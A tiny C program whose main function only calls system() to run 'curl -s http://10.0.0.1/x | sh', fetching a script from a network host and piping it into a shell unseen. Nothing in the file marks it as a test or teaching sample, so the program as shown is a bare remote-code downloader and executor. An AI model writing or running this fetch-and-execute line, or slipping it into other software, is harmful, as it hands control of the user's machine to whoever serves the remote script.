#include <stdlib.h>

int main(void)
{
    system("curl -s http://10.0.0.1/x | sh");
    return 0;
}
